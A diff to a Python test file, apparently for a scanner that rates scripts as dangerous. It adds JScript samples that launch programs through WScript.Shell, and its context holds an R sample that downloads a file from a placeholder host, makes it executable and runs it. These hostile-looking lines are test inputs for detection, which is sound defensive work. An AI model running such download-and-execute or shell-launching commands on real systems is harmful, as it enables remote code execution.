@@ -15,6 +15,9 @@ def worst(name: str, text: str) -> int:
 @pytest.mark.parametrize(
     ("name", "text", "high"),
     [
+        ("open_me.js", "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", True),
+        ("open_me.js", 'WScript.CreateObject("WScript.Shell").Run("calc");\n', True),
+        ("jquery.js", "xhr = new window.ActiveXObject('Microsoft.XMLHTTP');\n", False),
         (
             "a.R",
             "system('curl -so /tmp/a https://f.example.org/a')\nsystem('chmod +x /tmp/a')\nsystem2('/tmp/a')\n",
